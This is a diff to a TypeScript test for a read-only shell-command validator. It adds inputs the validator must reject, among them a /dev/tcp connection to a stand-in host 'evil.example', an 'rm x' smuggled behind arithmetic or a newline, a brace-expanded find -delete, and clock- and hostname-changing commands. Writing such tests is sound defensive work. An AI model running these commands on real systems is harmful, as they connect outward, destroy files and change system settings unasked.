@@ -22,7 +22,6 @@ describe('isReadOnlyCommand', () => {
     'git ls-files',
     'git blame src/a.ts',
     'git remote -v',
-    'git -C sub status',
     'sort names.txt | uniq -c',
     'sleep 1',
     'true',
@@ -84,6 +83,14 @@ describe('isReadOnlyCommand', () => {
     'echo "unterminated',
     'ls\nrm x',
     'x'.repeat(10_001),
+    'git -C /tmp/evil status',
+    'find . {-delete,}',
+    'echo $((1<<2))\nrm x',
+    '((1<<2))\nrm x\n2',
+    'cat < /dev/tcp/evil.example/80',
+    'date -s2020-01-01',
+    'hostname -F name.txt',
+    'hostname evil',
   ];
   it.each(notReadOnly)('%s is not read-only', (command) => {
     expect(isReadOnlyCommand(command)).toBe(false);
